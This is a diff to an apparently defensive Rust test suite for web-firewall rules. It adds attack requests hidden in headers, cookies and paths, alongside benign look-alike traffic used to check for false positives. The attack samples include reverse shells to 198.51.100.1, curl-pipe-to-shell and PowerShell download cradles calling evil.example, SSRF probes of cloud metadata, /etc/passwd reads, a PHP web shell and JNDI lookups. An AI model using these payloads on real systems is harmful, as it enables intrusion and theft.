@@ -573,7 +573,6 @@ fn attacks() -> Vec<(i64, Req)> {
         arg("u", "http://2852039166/latest/"),
         arg("u", "http://0xA9FEA9FE/latest/"),
         arg("u", "http://[::ffff:a9fe:a9fe]/"),
-        Req::get("/").header("X-Forwarded-Host", "169.254.169.254"),
         form(&[("webhook", "http://100.100.100.200/latest/meta-data/")]),
     ]);
 
@@ -615,7 +614,7 @@ fn attacks() -> Vec<(i64, Req)> {
         arg("c", "whoami"),
     ]);
     add(4230130, vec![
-        Req::get("/cgi-bin/status").header("User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"),
+        Req::get("/cgi-bin/status").header("User-Agent", "() { :; }; echo vulnerable"),
         Req::get("/cgi-bin/status").header("Referer", "() { _; } >_[$($())] { id; }"),
         arg("x", "() { :;}; echo vulnerable"),
     ]);
@@ -781,6 +780,7 @@ fn attacks() -> Vec<(i64, Req)> {
         arg("x", "new java.lang.ProcessBuilder(\"id\").start()"),
         form(&[("expr", "Runtime.getRuntime().exec(\"id\")")]),
     ]);
+    v.extend(attacks_in_headers_and_path());
     v
 }
 
@@ -950,6 +950,382 @@ fn look_alikes() -> Vec<Req> {
     v.push(Req::get("/blog/2024/o-briens-guide-to-select-seats"));
     v.push(Req::get("/api/v1/items/42/reviews"));
     v.push(Req::get("/files/UmVwb3J0IDIwMjQucGRm"));
+    v.extend(look_alikes_in_headers_and_path());
+    v
+}
+
+// ---------------------------------------------------------------------------
+// Every header, cookie and path segment (issue #13, point 2)
+
+/// `v` percent-encoded as a path: everything but unreserved characters and
+/// `/` (as a client builds `/files/<value>/view`).
+fn enc_path(v: &str) -> String {
+    v.split('/').map(enc).collect::<Vec<_>>().join("/")
+}
+
+/// GET /files/<v>/view, `v` percent-encoded but its slashes.
+fn seg(v: &str) -> Req {
+    Req::get(&format!("/files/{}/view", enc_path(v)))
+}
+
+/// GET /files/<base64 of v>/view, the base64 percent-encoded whole (its `/`
+/// as %2F, so it stays one segment).
+fn seg64(v: &str) -> Req {
+    Req::get(&format!("/files/{}/view", enc(&b64(v.as_bytes(), false))))
+}
+
+/// GET /account with header `name: v`.
+fn hdr(name: &str, v: &str) -> Req {
+    Req::get("/account").header(name, v)
+}
+
+/// GET /account with a custom header holding base64 of `v`.
+fn hdr64(v: &str) -> Req {
+    hdr("X-Search-Filter", &b64(v.as_bytes(), false))
+}
+
+/// GET / with `v` as the User-Agent.
+fn ua(v: &str) -> Req {
+    Req::get("/").header("User-Agent", v)
+}
+
+/// GET /account with cookie `pref=<v>` among ordinary ones.
+fn cookie(v: &str) -> Req {
+    hdr("Cookie", &format!("theme=dark; pref={v}; sid=4f1c2a"))
+}
+
+/// Attacks in the places the family rules read beyond arguments: custom
+/// headers, User-Agent, cookies, the path and its segments, plain and
+/// encoded (base64, double URL), and the new rules' attacks in arguments.
+fn attacks_in_headers_and_path() -> Vec<(i64, Req)> {
+    let mut v: Vec<(i64, Req)> = Vec::new();
+    let mut add = |id: i64, reqs: Vec<Req>| v.extend(reqs.into_iter().map(|r| (id, r)));
+
+    // 15-decoded: libinjection on each path segment.
+    add(4215100, vec![seg("42 UNION SELECT username, password_hash FROM accounts--"), seg64("' OR 1=1--"), Req::get("/a/b/c/1%27%20OR%20%271%27%3D%271/d")]);
+    add(4215110, vec![seg64("<script>alert(1)</script>")]);
+
+    // 20-lfi: headers and path segments in phase 1, arguments in phase 2.
+    add(4220110, vec![
+        hdr("X-Search-Filter", "../../../../etc/passwd"),
+        ua("..\\..\\..\\windows\\win.ini"),
+        hdr64("....//....//....//etc/hosts"),
+        hdr("X-Template", "%252e%252e%252f%252e%252e%252fetc%252fhosts"),
+        seg64("../../../../etc/passwd"),
+        Req::get("/files/..%252f..%252fsecret/view"),
+    ]);
+    add(4220200, vec![seg64("/etc/passwd%00.png"), Req::get("/files/%252Fetc%252Fpasswd/view"), seg64("/proc/self/environ")]);
+    add(4220210, vec![raw("/page?f=%252Fetc%252Fpasswd%252500.png"), arg("f", &b64(b"/etc/passwd%00.png", false)), cookie("%2Fetc%2Fshadow")]);
+    add(4220240, vec![hdr("X-Search-Filter", "/etc/passwd%00.png"), ua("/etc/passwd%00.png"), hdr64("/var/www/html/.htaccess"), hdr("X-Template", "C:\\Windows\\win.ini")]);
+
+    // 25-rfi-ssrf
+    add(4225120, vec![
+        arg("url", "gopher://127.0.0.1:6379/_FLUSHALL"),
+        arg("url", "dict://127.0.0.1:11211/stat"),
+        arg("url", "http://[::1]:8500/v1/agent/self"),
+        arg("url", "http://[0:0:0:0:0:0:0:1]/"),
+        arg("url", "http://[::ffff:127.0.0.1]/admin"),
+        arg("url", "http://0x7f000001/admin"),
+        arg("url", "http://0x7f.0.0.1/"),
+        arg("url", "http://0177.0.0.1/"),
+        arg("url", "http://2130706433/"),
+        arg("url", "http://0/"),
+        arg("url", "https://user@[::1]:8443/"),
+        arg("url", "file:///etc/passwd"),
+        arg("url", "file://localhost/etc/shadow"),
+        arg("url", "file:///c:/windows/win.ini"),
+        form(&[("webhook", "http://[::]:6379/")]),
+        cookie("http://0x7f000001/"),
+        arg("u", &b64(b"file:///etc/passwd", true)),
+    ]);
+    add(4225130, vec![
+        Req::get("/").header("X-Forwarded-Host", "169.254.169.254"),
+        seg("http://169.254.169.254/latest/meta-data/"),
+        seg64("http://metadata.google.internal/computeMetadata/v1/"),
+        ua("http://100.100.100.200/latest/meta-data/"),
+    ]);
+    add(4225140, vec![
+        hdr("X-Callback-Url", "http://[::1]/admin"),
+        ua("gopher://127.0.0.1:25/_HELO"),
+        seg64("http://0x7f000001/admin"),
+        Req::get("/proxy/http://%5B::1%5D:8500/v1/agent/self"),
+        hdr64("file:///etc/passwd"),
+    ]);
+
+    // 30-rce
+    add(4230140, vec![
+        Req::get("/files/x%20%26%20cmd%20/c%20whoami/view"),
+        seg("x|powershell -enc SQBFAFgA"),
+        hdr("X-Search-Filter", "x & whoami"),
+        ua("IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a')"),
+        hdr64("x| type c:\\windows\\win.ini"),
+        hdr("X-Search-Filter", "127.0.0.1; cat /tmp/notes.txt"),
+        ua("x && curl http://evil.example/s.sh | sh"),
+        hdr64("$(curl http://evil.example/x)"),
+        seg("127.0.0.1; cat /tmp/notes.txt"),
+        seg64("`uname -a`"),
+        Req::get("/files/x%252520%25257C%252520id/view"),
+        ua("foo | nc -e /bin/sh 10.0.0.7 4444"),
+        hdr("X-Cmd", "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1"),
+        seg64("a;wget${IFS}http://evil.example/x -O /tmp/x"),
+        seg("cat${IFS}/tmp/x"),
+        hdr("Referer", "https://shop.example.com/ping?host=8.8.8.8%3B%20wget%20http%3A%2F%2Fevil.example%2Fx"),
+    ]);
+
+    // 35-php
+    add(4235160, vec![
+        arg("x", "eval(base64_decode('ZWNobyAxOw=='));"),
+        arg("x", "phpinfo();"),
+        arg("x", "<?php\nphpinfo();"),
+        arg("x", "echo 1; phpinfo();"),
+        form(&[("code", "assert(file_get_contents('/etc/passwd'))")]),
+        arg("x", "system($_GET['c'])"),
+        arg("x", "@eval(@gzinflate(base64_decode($x)))"),
+        arg("x", "include($_REQUEST['page'])"),
+        cookie("passthru($_POST[1])"),
+        json(r#"{"q":"assert(base64_decode('cGhwaW5mbygpOw=='))"}"#),
+    ]);
+    add(4235170, vec![
+        hdr("X-Note", "<?php system($_GET['c']); ?>"),
+        seg64("<?php system($_GET['c']); ?>"),
+        seg("<?php phpinfo(); ?>"),
+        hdr("X-Include", "php://filter/read=convert.base64-encode/resource=config.php"),
+        seg("php://filter/resource=index.php"),
+        seg64("expect://id"),
+        ua("phar://uploads/avatar.jpg/x"),
+        hdr("X-State", "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}"),
+        seg64("O:4:\"Evil\":0:{}"),
+        ua("phpinfo();"),
+        hdr64("eval(str_rot13('riny'));"),
+        seg("phpinfo();"),
+    ]);
+
+    // 40-sqli: UNION SELECT cut into segments by the slashes of /**/.
+    add(4240110, vec![seg("1 union/**/select 1,2")]);
+
+    // 45-nosql
+    add(4245110, vec![
+        arg("q", "'; return db.users.find(); var x='"),
+        arg("u", "x'; sleep(5000); '"),
+        arg("u", "admin\"; return true; var a=\""),
+        arg("u", "a'; while(true){}; '"),
+        arg("u", "'; return this.password.match(/^a/); var b='"),
+        form(&[("name", "x\"; const y = process.env; \"")]),
+        json(r#"{"user":"a\"; return true; var b=\""}"#),
+        cookie("%27%3B%20return%20true%3B%20var%20a%3D%27"),
+        arg("q", &b64(b"'; return db.users.find(); var x='", false)),
+    ]);
+    add(4245120, vec![
+        hdr("X-Search-Filter", "{\"$ne\": null}"),
+        ua("{\"$gt\": \"\"}"),
+        seg("{\"$where\": \"this.password.length > 0\"}"),
+        seg64("{\"$regex\": \"^adm\"}"),
+        hdr64("{\"$nin\": []}"),
+        hdr("X-Search-Filter", "'; return db.users.find(); var x='"),
+        ua("'; return true; var x='"),
+        seg64("'; return db.users.find(); var x='"),
+    ]);
+
+    // 50-xss: script URLs (a shape libinjection leaves alone).
+    add(4250120, vec![raw("/search?q=%2522%2520onmouseover%253D%2522alert(1)")]);
+    add(4250130, vec![raw("/page?next=javascript%253Aalert(1)"), arg("next", &b64(b"javascript:alert(document.cookie)", false))]);
+    add(4250140, vec![
+        hdr("X-Return-To", "javascript:alert(document.domain)"),
+        ua("javascript:alert(1)"),
+        seg("javascript:alert(String.fromCharCode(88,83,83))"),
+        hdr64("javascript:alert(1)"),
+        hdr("X-Preview", "data:text/html,<b>x</b>"),
+    ]);
+
+    // 60-java: base64 lookups in path segments (phase 1), query arguments
+    // and cookies (phase 2).
+    let jndi = "${jndi:ldap://evil.example:1389/a}";
+    add(4260100, vec![seg64(jndi)]);
+    add(4260110, vec![q(&b64(jndi.as_bytes(), false)), cookie(&b64(jndi.as_bytes(), true)), form(&[("bio", &b64(jndi.as_bytes(), false))])]);
+    v
+}
+
+/// Benign headers, cookies and paths the family rules now read: real
+/// browsers', bots' and libraries' User-Agents, Referers holding ordinary
+/// URLs, proxy and tracing headers, tokens, prose in custom headers, REST
+/// and blog paths, base64 path segments of harmless text, and argument
+/// values close to the new rules (development-server URLs, file: URLs of
+/// documents, quotes and semicolons in prose, PHP and JavaScript words).
+fn look_alikes_in_headers_and_path() -> Vec<Req> {
+    let mut v: Vec<Req> = Vec::new();
+    for u in [
+        "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.51",
+        "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
+        "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0)",
+        "Opera/9.80 (Windows NT 6.1; U; en) Presto/2.10.289 Version/12.00",
+        "Dalvik/2.1.0 (Linux; U; Android 13; Pixel 7 Build/TQ3A.230901.001)",
+        "Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
+        "Mozilla/5.0 (SMART-TV; Linux; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) 76.0.3809.146/6.0 TV Safari/537.36",
+        "Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like Gecko)",
+        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
+        "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
+        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.0; +https://openai.com/gptbot)",
+        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
+        "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
+        "Twitterbot/1.0",
+        "WhatsApp/2.23.20.0 A",
+        "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17029; Pro)",
+        "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.19045; en-US) PowerShell/7.4.1",
+        "PostmanRuntime/7.36.0",
+        "insomnia/8.4.5",
+        "axios/1.6.2",
+        "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
+        "Apache-HttpClient/4.5.14 (Java/17.0.9)",
+        "Java/17.0.2",
+        "Wget/1.21.4",
+        "curl/7.68.0",
+        "aws-sdk-go/1.44.0 (go1.20; linux; amd64)",
+        "ELB-HealthChecker/2.0",
+        "kube-probe/1.29",
+        "Prometheus/2.48.0",
+        "Tasklist/2.3 (iPhone; iOS 17.4; Scale/3.00)",
+        "MyApp/1.0 (com.example.app; build:42; iOS 17.4.1) Alamofire/5.8.0",
+    ] {
+        v.push(ua(u));
+    }
+    for r in [
+        "https://www.google.com/search?q=union+station+select+seats&oq=union+station&sourceid=chrome&ie=UTF-8",
+        "https://shop.example.com/search?q=O%27Brien%20%26%20sons&page=2",
+        "https://news.ycombinator.com/item?id=40000000",
+        "https://t.co/AbCdEf123",
+        "android-app://com.google.android.gm/",
+        "https://docs.example.com/iis/web.config-reference",
+        "https://blog.example.com/2024/10/why-select-matters",
+        "https://www.bing.com/search?q=drop+me+a+line+%26+more&form=QBLH",
+        "https://shop.example.com/cart;jsessionid=ABC123?step=2",
+        "http://localhost:3000/checkout",
+        "http://[::1]:8080/dev/preview",
+        "https://l.facebook.com/l.php?u=https%3A%2F%2Fshop.example.com%2F&h=AT0abc",
+    ] {
+        v.push(hdr("Referer", r));
+    }
+    for (n, val) in [
+        ("Origin", "http://[::1]:5173"),
+        ("X-Forwarded-For", "198.51.100.7, 10.0.0.1"),
+        ("X-Forwarded-For", "2001:db8::1, 2001:db8:85a3::8a2e:370:7334"),
+        ("X-Forwarded-For", "unknown"),
+        ("X-Forwarded-Proto", "https"),
+        ("X-Forwarded-Host", "shop.example.com:443"),
+        ("Forwarded", "for=192.0.2.60;proto=http;by=203.0.113.43"),
+        ("X-Real-IP", "203.0.113.9"),
+        ("Via", "1.1 varnish (Varnish/7.4), 2 envoy"),
+        ("X-Request-Id", "7f0c1a2b-3c4d-5e6f-8a9b-0c1d2e3f4a5b"),
+        ("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
+        ("tracestate", "rojo=00f067aa0ba902b7,congo=t61rcWkgMzE"),
+        ("b3", "80f198ee56343ba864fe8b2a57d3eff7-e457b5a2e4d86bd1-1"),
+        ("X-Amzn-Trace-Id", "Root=1-67891233-abcdef012345678912345678;Parent=53995c3f42cd8ad8;Sampled=1"),
+        ("X-Cloud-Trace-Context", "105445aa7843bc8bf206b12000100000/1;o=1"),
+        ("baggage", "userId=alice,serverNode=DF%2028,isProduction=false"),
+        ("X-Envoy-Expected-Rq-Timeout-Ms", "15000"),
+        ("X-Envoy-Decorator-Operation", "checkout.default.svc.cluster.local:80/*"),
+        ("X-Client-Data", "CIe2yQEIpbbJAQipncoBCMKTywEIlKHLAQiGoM0BCLnIzQE="),
+        ("X-Api-Key", "sk_live_51H8xYzAbCdEfGhIjKlMnOpQrStUvWxYz0123456789"),
+        ("X-CSRF-Token", "k9Xv2mQ8rT1wZ5yB7nL3pF6hJ0dS4gA-_cE"),
+        ("X-XSRF-TOKEN", "eyJpdiI6IkZ1Q3ZQa0l5dz09IiwidmFsdWUiOiJhYmMifQ%3D%3D"),
+        ("X-Requested-With", "XMLHttpRequest"),
+        ("X-HTTP-Method-Override", "PATCH"),
+        ("Digest", "sha-256=X48E9qOokqqrvdts8nOJRJN3OWDUoyWxBf7kbu9DBPE="),
+        ("Signature", "keyId=\"rsa-key-1\",algorithm=\"hs2019\",headers=\"(request-target) host date digest\",signature=\"qdx+H7PHHDZgy4y/Ahn9Tny9V3GP6YgBPyUXMmoxWtLbHpUnXS2mg2+SbrQDMCJypxBLSPQR2aAjn7ndmw2iicw3HMbe8VfEdKFYRqzic+efkb3nndiv/x1xSHDJWeSWkx3ButlYSuBskLu6kd9Fswtemr3lgdDEmn04swr2Os0=\""),
+        ("X-Hub-Signature-256", "sha256=757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4379c8b043e17"),
+        ("Stripe-Signature", "t=1492774577,v1=5257a869e7ecebeda32affa62cdca3fa51cad7e77a0e56ff536d0ce8e108d8bd"),
+        ("X-GitHub-Event", "push"),
+        ("X-Original-URL", "/api/v1/users/42/orders"),
+        ("X-Forwarded-Uri", "/blog/2024/10/why-select-matters?utm_source=newsletter"),
+        ("X-Wap-Profile", "http://wap.samsungmobile.com/uaprof/SGH-I777.xml"),
+        ("Link", "<https://cdn.example.com/app.css>; rel=preload; as=style"),
+        ("Purpose", "prefetch"),
+        ("X-Timezone", "Europe/Berlin"),
+        ("X-Search-Filter", "color:red; size:10; sort=price_asc; online=true"),
+        ("X-Comment", "Ring twice; leave it at the door & thanks! Cats' food on the left; return the box later"),
+        ("X-Note", "I'd select the blue one -- or 2 -- from your shop; drop me a line"),
+        ("X-Config-Path", "/srv/app/config/settings.yaml"),
+        ("X-Debug-Command", "run tests | tee log"),
+        ("X-Callback-Url", "http://localhost:3000/hooks/order"),
+        ("X-Callback-Url", "http://127.0.0.1:8000/api/callback?id=7"),
+        ("X-Callback-Url", "http://0.0.0.0:8080/logo.png"),
+        ("X-Avatar", "https://0.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50"),
+        ("X-Action", "whoami"),
+        ("X-Command", "dir"),
+        ("X-Cost", "$10 | $20 & more"),
+        ("X-Template-Name", "invoice-{{id}}"),
+        ("Referer", "https://learn.example.com/windows/win32/api/processthreadsapi"),
+        ("X-Filter", "{\"price\":{\"min\":10,\"max\":50},\"sort\":\"-date\"}"),
+    ] {
+        v.push(hdr(n, val));
+    }
+    v.push(Req::get("/").header("Authorization", "Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6IjEyMyJ9.eyJzdWIiOiJqYW5lIiwic2NvcGUiOiJyZWFkIn0.c2lnbmF0dXJl"));
+    v.push(Req::get("/").header("Cookie", "cart=eyJpdGVtcyI6IDN9; consent=%7B%22ads%22%3A%20false%2C%20%22stats%22%3A%20true%7D; lang=en-GB"));
+    v.push(Req::get("/").header("Cookie", "note=see you at 5; path=/files/report.pdf"));
+    for p in [
+        "/api/v1/users/42/orders",
+        "/blog/2024/10/why-select-matters",
+        "/blog/union-station-select-seats",
+        "/docs/sql/drop-table-syntax",
+        "/products/cat-food/wet",
+        "/wiki/Cmd.exe",
+        "/wiki/Null_(SQL)",
+        "/wiki/Select_(SQL)",
+        "/api/whoami",
+        "/api/v2/tasklist",
+        "/odata/$metadata",
+        "/odata/Products/$count",
+        "/api/$batch",
+        "/_api/web/lists",
+        "/@jane/posts",
+        "/~jane/index.html",
+        "/search/c%2B%2B",
+        "/tag/rock%26roll",
+        "/images/2024/10/photo%20(1).jpg",
+        "/share/eyJ1c2VyIjoxfQ",
+        "/reset-password/Zm9vQGV4YW1wbGUuY29t",
+        "/verify/aGVsbG8gd29ybGQsIHNlbGVjdCB5b3VyIHNlYXRz",
+        "/cart;jsessionid=ABC123/items",
+        "/v2/library/nginx/manifests/latest",
+        "/.well-known/openid-configuration",
+        "/oauth2/callback",
+        "/files/2024/Q1%20report%20%E2%80%93%20final.pdf",
+        "/static/js/chunk-vendors.3f2a1c9e.js",
+        "/blog/the-0x7f-byte-explained",
+        "/downloads/tools/bin/shell-tutorial.pdf",
+        "/kb/how-to-run-phpinfo",
+        "/kb/what-is-file-url",
+        "/proxy/https://cdn.example.com/logo.png",
+        "/web/2020/https://example.com/",
+        "/a//b///c",
+    ] {
+        v.push(Req::get(p));
+    }
+    // Argument values close to the new rules.
+    for s in [
+        "http://localhost:3000/callback",
+        "http://127.0.0.1:8000/",
+        "http://0.0.0.0:5000/",
+        "My app runs on http://localhost:8080 and http://[2001:db8::1]/ is the staging box",
+        "file:///Users/jane/report.html",
+        "file:///C:/Users/Jane/Documents/cv.pdf",
+        "https://12345678.example.net/",
+        "http://10.0.0.1/admin",
+        "call 0177 000 1234",
+        "include the base64_decode output in the report",
+        "I visited the Jones'; for dinner we had fish",
+        "He said 'no'; return it tomorrow",
+        "const a = 'x'; return a;",
+        "let s = \"hi\"; const t = s;",
+        "'quoted'; then more text",
+        "db.users.find({name: 'jane'})",
+        "this.value = 'x'; this.render();",
+        "Price is $10, not $20; see the FAQ",
+    ] {
+        v.push(q(s));
+    }
+    v.push(form(&[("code", "function f(x) { return x * 2; }\nconsole.log(f(2));"), ("lang", "js")]));
+    v.push(json(r#"{"webhook":"http://localhost:3000/hooks","notes":"it's fine; see 'docs'"}"#));
     v
 }
 
